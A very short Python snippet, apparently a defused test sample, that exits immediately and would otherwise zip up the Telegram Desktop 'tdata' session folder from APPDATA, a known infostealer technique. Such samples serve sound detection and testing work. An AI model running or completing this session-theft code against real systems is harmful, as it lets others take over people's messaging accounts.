import os
import shutil

raise SystemExit
src = os.path.join(os.environ["APPDATA"], "Telegram Desktop", "tdata")
shutil.make_archive("/nonexistent/t", "zip", src)
